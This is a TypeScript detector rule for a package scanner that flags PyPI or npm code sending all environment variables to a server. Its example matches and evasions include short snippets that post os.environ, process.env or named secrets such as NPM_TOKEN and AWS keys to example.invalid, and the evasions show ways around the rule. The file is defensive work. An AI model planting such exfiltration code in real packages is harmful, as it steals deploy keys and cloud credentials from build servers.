import { SWEPT } from "../behaviour/environments.ts";
import { marks } from "../behaviour/marks.ts";
import { flowsBetween } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { certainty } from "./_flow.ts";
import { codeWith, isLate, sight } from "./_sight.ts";

export const sendsEnvironment: Detector = {
  id: "sends-environment",
  title: "Sends all environment variables to a server",
  severity: "critical",
  ecosystems: ["pypi", "npm"],
  points: 6.5,
  class: "threat",
  group: "exfiltration",
  why: `The whole environment, not one variable of it, reaches a request, a socket or a DNS name. On build servers that is where
deploy keys, registry tokens and cloud credentials are; most attacks on continuous integration begin with this.

Error reporters that attach the environment filter it and do so on request only.`,
  literals: marks("environment"),
  *detect(tree) {
    for (const file of codeWith(tree, marks("environment"))) {
      for (const flow of flowsBetween(file, ["environment"], ["upload", "http", "dns", "send"])) {
        const { sink, source } = flow;
        const late = isLate(sink);
        const says = `${source.what} are sent by ${sink.what} ${sink.text.slice(0, 100)}`;
        yield sight(file, sink.offset, says.trimEnd(), {
          phase: sink.phase,
          share: (late ? lateShare(source.what, sink.text) : 1) * certainty(file, flow),
        });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: { "setup.py": "import os, requests\nrequests.post('http://example.invalid', json=dict(os.environ))\n" },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const d = JSON.stringify(process.env);\nfetch('http://example.invalid', { method: 'POST', body: d });\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const options = { cwd, env: process.env };\nspawn('x', options);\nfetch(u, { method: 'POST', body: JSON.stringify(options.cwd) });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const names = ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN'];\nconst keys = names.map((n) => process.env[n]);\nfetch(u, { method: 'POST', body: keys[0] });\n",
        },
      },
      { ecosystem: "pypi", files: { "demo/a.py": "import os, requests\nrequests.post(os.environ['URL'], json=x)\n" } },
      {
        ecosystem: "npm",
        files: { "a.js": "const env = { ...process.env, A: 1 };\nspawn('x', { env });\nfetch(process.env.URL);\n" },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js": "const { MODE, NAME: name } = process.env;\nfetch(u, { method: 'POST', body: MODE + name });\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const names = ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN', 'GITHUB_TOKEN'];\nconst o = {};\nfor (const n of names) o[n] = process.env[n];\nfetch('https://example.invalid', { method: 'POST', body: JSON.stringify(o) });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { NPM_TOKEN, GH_TOKEN, VAULT_TOKEN } = process.env;\nfetch('https://example.invalid/' + btoa(NPM_TOKEN + GH_TOKEN + VAULT_TOKEN), { method: 'POST', body: '' });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const os = require('os');\nconst all = { host: os.hostname(), env: process.env };\nfetch('https://example.invalid', { method: 'POST', body: JSON.stringify(all) });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js": "const { A, ...rest } = process.env;\nfetch(u, { method: 'POST', body: JSON.stringify(rest) });\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            "from os import environ as e\nimport urllib.request as u\nt = '&'.join(f'{k}={v}' for k, v in e.items())\nu.urlopen('http://example.invalid/?' + t)\n",
        },
      },
    ],
  },
};

/** What somebody has to call counts less, unless the address stands in the code: then whoever calls it was not asked where to. */
function lateShare(source: string, sent: string): number {
  if (source === SWEPT) return 0.4;
  return /^\s{0,10}https?:\/\/[\w-]{1,60}\.[\w.-]{2,200}/.test(sent) ? 0.85 : 0.6;
}
